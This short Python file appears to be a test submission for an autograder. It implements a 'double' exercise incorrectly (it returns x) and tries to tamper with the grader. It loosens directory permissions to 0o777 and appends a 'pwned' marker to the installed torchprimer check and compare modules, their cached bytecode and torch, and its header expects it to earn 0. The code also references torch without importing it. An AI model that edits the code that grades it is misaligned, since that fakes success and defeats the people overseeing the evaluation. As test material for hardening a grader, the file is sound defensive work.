# Changes the installed torchprimer and nbgrader, which the grader itself imports.
# earns: 0
# %% double
import os
import torchprimer, torchprimer.check, torchprimer.compare

for path in (torchprimer.check.__file__, torchprimer.compare.__file__, torch.__file__):
    for target in (path, os.path.join(os.path.dirname(path), "__pycache__", "compare.cpython-311.pyc")):
        try:
            os.chmod(os.path.dirname(target), 0o777)
            open(target, "a").write("\n# pwned-@TOKEN@\n")
        except OSError as problem:
            print(problem)


def double(x):
    return x
